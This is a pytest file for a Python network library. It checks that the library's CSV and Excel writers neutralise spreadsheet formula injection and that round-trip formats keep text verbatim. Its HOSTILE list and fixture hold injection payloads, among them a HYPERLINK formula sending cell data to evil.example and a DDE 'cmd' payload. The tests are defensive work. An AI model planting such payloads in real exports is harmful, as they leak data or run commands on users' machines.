"""One safe writer for every table a person opens in a spreadsheet (issue 15, item 2).

``systemsmap.io.write_tables`` (used by the command line's ``metrics -o``,
``bridges -o`` and ``report --key``) stores text that a spreadsheet would
evaluate (starting with ``= + - @``, a tab or a carriage return) as text in a
workbook and behind a single quote in CSV; the exact round-trip formats keep
it verbatim. Each cell is read back: its type and text in the workbook (and
that the sheet's XML holds no ``<f>`` formula element, the only thing Excel or
LibreOffice evaluates), its field in the CSV file.
"""
from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

import systemsmap as sm
from systemsmap.io._sheets import csv_cell, table_paths, write_tables

#: Text that runs, or becomes, a formula in Excel, LibreOffice or Google Sheets.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=S1", "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]
SAFE = ["Ann", "1 + 1", "O'Brien", "", "a=b"]


def _table() -> pd.DataFrame:
    values = HOSTILE + SAFE
    n = len(values)
    return pd.DataFrame({"label": values, "score": np.linspace(-2.5, 2.5, n), "n": np.arange(n),
                         "flag": [i % 2 == 0 for i in range(n)], "group": pd.Categorical(["=G"] * n)},
                        index=pd.Index([f"=id{i}" for i in range(n)], name="id"))


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_workbook_cells_are_text_never_formulas(tmp_path):
    t = _table()
    path = tmp_path / "t.xlsx"
    assert write_tables({"actors": t, "=sheet": t.head(2)}, path) == [path]
    assert "<f>" not in _sheet_xml(path) and "<f " not in _sheet_xml(path)
    ws = openpyxl.load_workbook(path)["actors"]
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == ["id", "label", "score", "n", "flag", "group"]
    for i, row in enumerate(rows[1:]):
        ident, label, score, n, flag, group = row
        assert (ident.value, ident.data_type, ident.quotePrefix) == (f"=id{i}", "s", True)
        assert (group.value, group.data_type, group.quotePrefix) == ("=G", "s", True)
        expected = t["label"].iloc[i]
        if expected == "":
            assert label.value is None  # an empty text is an empty cell
        else:
            assert label.data_type == "s"
            assert label.quotePrefix == expected.startswith(("=", "+", "-", "@", "\t", "\r"))
            assert label.value.replace("_x000D_", "\r") == expected  # CR escaped as OOXML does
        assert (score.data_type, score.value) == ("n", pytest.approx(t["score"].iloc[i]))
        assert (n.data_type, n.value) == ("n", i)
        assert (flag.data_type, flag.value) == ("b", i % 2 == 0)


def test_csv_fields_behind_a_quote(tmp_path):
    t = _table()
    paths = write_tables({"actors": t, "network": pd.DataFrame({"value": [1, "=x", -3.5]},
                                                               index=pd.Index(["a", "@b", "c"], name="figure"))},
                         tmp_path / "m.csv")
    assert paths == [tmp_path / "m.csv", tmp_path / "m_network.csv"]
    with open(paths[0], encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["id", "label", "score", "n", "flag", "group"]
    for i, row in enumerate(rows[1:]):
        expected = t["label"].iloc[i]
        assert row[0] == f"'=id{i}"
        assert row[1] == (("'" + expected) if expected in HOSTILE else expected)
        assert float(row[2]) == t["score"].iloc[i]  # numbers stay numbers: -2.5 is not quoted
        assert row[5] == "'=G"
    with open(paths[1], encoding="utf-8", newline="") as fh:
        assert list(csv.reader(fh)) == [["figure", "value"], ["a", "1"], ["'@b", "'=x"], ["c", "-3.5"]]
    # no field starts with a character a spreadsheet evaluates, bar numbers
    for p in paths:
        with open(p, encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for field in row:
                    if field.startswith(("=", "+", "-", "@", "\t", "\r")):
                        float(field)


def test_csv_line_breaks_inside_a_field_are_quoted(tmp_path):
    # a lone CR is a line break to a spreadsheet: the field is quoted, so the row stays one row
    t = pd.DataFrame({"label": ["Ann\rSmith", "Bo\r\nLee", "Cy\nDu"]}, index=pd.Index(["a", "b", "c"], name="id"))
    (p,) = write_tables({"actors": t}, tmp_path / "k.csv")
    back = pd.read_csv(p, index_col="id", keep_default_na=False)
    assert back["label"].tolist() == ["Ann\rSmith", "Bo\r\nLee", "Cy\nDu"]


def test_writer_refuses_what_it_cannot_write(tmp_path):
    with pytest.raises(ValueError, match="csv or .xlsx"):
        write_tables({"a": _table()}, tmp_path / "t.txt")
    with pytest.raises(sm.DataError, match="control character"):
        write_tables({"a": pd.DataFrame({"x": ["bell\x07"]})}, tmp_path / "t.xlsx")
    assert not (tmp_path / "t.xlsx").exists()  # nothing half-written


def test_helpers():
    assert csv_cell("=1") == "'=1" and csv_cell("-") == "'-" and csv_cell(-1) == -1 and csv_cell("a-1") == "a-1"
    assert table_paths("x/m.CSV", ["a", "b"]) == [Path("x/m.CSV"), Path("x/m_b.CSV")]
    assert sm.write_tables is sm.io.write_tables is write_tables


@pytest.fixture
def hostile_net() -> sm.StakeholderNetwork:
    ids = ["=S1", "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)", "plain"]
    actors = pd.DataFrame({"id": ids, "label": [f'=HYPERLINK("http://x/{i}","y")' for i in range(5)],
                           "sector": ["=A", "=A", "@B", "@B", "-C"]})
    ties = pd.DataFrame({"source": ids[:4], "target": ids[1:], "note": ["=1+1", "\t@x", "+2", "-3"]})
    return sm.from_frames(actors, ties)


def test_round_trip_formats_keep_text_verbatim(hostile_net, tmp_path):
    # the exact formats are not for people's spreadsheets: text is written as it is and read back equal
    hostile_net.to_csv(tmp_path / "folder")
    raw = (tmp_path / "folder" / "actors.csv").read_text(encoding="utf-8")
    assert "'=" not in raw and "=HYPERLINK" in raw
    for back in (sm.read_csv(tmp_path / "folder"),):
        pd.testing.assert_frame_equal(back.actors, hostile_net.actors)
        pd.testing.assert_frame_equal(back.ties, hostile_net.ties)
    for ext, write, read in ((".graphml", "to_graphml", sm.read_graphml), (".gexf", "to_gexf", sm.read_gexf)):
        path = tmp_path / f"net{ext}"
        getattr(hostile_net, write)(path)
        assert "'=" not in path.read_text(encoding="utf-8")
        back = read(path)
        assert back.ids.tolist() == hostile_net.ids.tolist()
        assert back.actors["label"].tolist() == hostile_net.actors["label"].tolist()
        assert back.ties["note"].tolist() == hostile_net.ties["note"].tolist()


def test_library_workbooks_hold_text(hostile_net, tmp_path):
    # to_excel and to_kumu were already safe (issue 15); kept so
    for write in ("to_excel", "to_kumu"):
        path = tmp_path / f"{write}.xlsx"
        getattr(hostile_net, write)(path)
        assert "<f>" not in _sheet_xml(path)
        wb = openpyxl.load_workbook(path)
        for ws in wb:
            for row in ws.iter_rows():
                for c in row:
                    if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t")):
                        assert c.data_type == "s" and c.quotePrefix, (write, ws.title, c.coordinate)


def test_tables_read_back_by_pandas(tmp_path):
    # a person's table read back by pandas: the text columns carry the quote, numbers unchanged
    t = _table()
    (p,) = write_tables({"actors": t}, tmp_path / "m.csv")
    back = pd.read_csv(p, keep_default_na=False)
    assert back["score"].tolist() == pytest.approx(t["score"].tolist())
    assert back["label"].iloc[0] == "'" + HOSTILE[0]
    (x,) = write_tables({"actors": t}, tmp_path / "m.xlsx")
    xb = pd.read_excel(x, keep_default_na=False, engine="openpyxl")
    assert xb["label"].iloc[:5].tolist() == HOSTILE[:5]


# ---------------------------------------------------------------------------- nothing cut or changed (item 3)
EXACT_FLOATS = [0.1 + 0.2, 1 / 3, 2 / 3 * 1e-7, 123456789.12345678, 1e-310, -0.0, 1e300, 0.5]
TEXTS = ["Ann\rSmith", "Bo\r\nLee", "_x000D_ typed", "a_x0041_b", "#N/A", "\rx", "tab\tand\nline", "x" * 32767]


def _exact_net() -> sm.StakeholderNetwork:
    n = len(TEXTS)
    ids = [f"a{i}" for i in range(n)]
    actors = pd.DataFrame({"id": ids, "label": TEXTS, "score": EXACT_FLOATS})
    ties = pd.DataFrame({"source": ids, "target": ids[1:] + ids[:1], "note": TEXTS[::-1],
                         "x": EXACT_FLOATS[::-1]})
    return sm.from_frames(actors, ties)


def test_excel_round_trip_keeps_floats_line_ends_and_long_text(tmp_path):
    net = _exact_net()
    net.to_excel(tmp_path / "n.xlsx")
    back = sm.read_excel(tmp_path / "n.xlsx")
    assert back == net
    assert back.actors["label"].tolist() == TEXTS
    assert [repr(v) for v in back.ties["x"]] == [repr(v) for v in EXACT_FLOATS[::-1]]
    # in the file: the CR escaped as Excel writes it, the float as its shortest exact text
    xml = _sheet_xml(tmp_path / "n.xlsx")
    assert "Ann_x000D_Smith" in xml and "_x005F_x000D_ typed" in xml and "<v>0.30000000000000004</v>" in xml
    ws = openpyxl.load_workbook(tmp_path / "n.xlsx")["actors"]
    assert ws["B9"].data_type == "s" and ws["B6"].value == "#N/A" and ws["B6"].data_type == "s"


def test_kumu_and_convert_round_trips_are_exact(tmp_path):
    import warnings

    net = _exact_net()
    net.to_kumu(tmp_path / "k.xlsx")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", sm.DataWarning)
        back = sm.read_kumu(tmp_path / "k.xlsx")
    assert back.actors["label"].tolist() == TEXTS
    assert [repr(v) for v in back.ties["x"]] == [repr(v) for v in EXACT_FLOATS[::-1]]
    assert back.ties["note"].tolist() == TEXTS[::-1]


def test_text_over_the_cell_limit_is_refused_naming_the_cell(tmp_path):
    ids = ["a", "b", "c"]
    actors = pd.DataFrame({"id": ids, "bio": ["short", "y" * 32768, "z"]})
    net = sm.from_frames(actors, pd.DataFrame({"source": ["a", "b"], "target": ["b", "c"]}))
    for write in ("to_excel", "to_kumu"):
        with pytest.raises(sm.DataError) as err:
            getattr(net, write)(tmp_path / f"{write}.xlsx")
        e = err.value
        assert e.rows == (3,) and e.column == "bio" and "32,768 characters" in str(e) and "32,767" in str(e)
        assert not (tmp_path / f"{write}.xlsx").exists()
    with pytest.raises(sm.DataError, match="32,767"):
        write_tables({"actors": actors.set_index("id")}, tmp_path / "t.xlsx")
    # CSV tables and folders hold any length
    write_tables({"actors": actors.set_index("id")}, tmp_path / "t.csv")
    net.to_csv(tmp_path / "folder")
    assert sm.read_csv(tmp_path / "folder").actors["bio"].tolist() == actors["bio"].tolist()


def test_people_tables_keep_line_ends_and_floats(tmp_path):
    t = pd.DataFrame({"label": ["Ann\rSmith", "Bo\r\nLee"], "x": [0.1 + 0.2, 1 / 3]},
                     index=pd.Index(["a", "b"], name="id"))
    (p,) = write_tables({"actors": t}, tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(p)["actors"]
    assert ws["C2"].value == 0.1 + 0.2
    from systemsmap.io._excel_safe import unescape

    assert [unescape(ws["B2"].value), unescape(ws["B3"].value)] == ["Ann\rSmith", "Bo\r\nLee"]


def test_csv_folder_keeps_carriage_returns(tmp_path):
    # "Ann\rSmith" read back as an extra actor "Smith" (issue 15); the row stays one row now
    net = _exact_net()
    net.to_csv(tmp_path / "folder")
    back = sm.read_csv(tmp_path / "folder")
    assert back == net
    assert back.actors["label"].tolist() == TEXTS
    # files without a carriage return keep their plain line ends (the bundled data are written so)
    plain = sm.from_frames(None, pd.DataFrame({"source": ["a"], "target": ["b"]}))
    plain.to_csv(tmp_path / "plain")
    assert b"\r" not in (tmp_path / "plain" / "ties.csv").read_bytes()
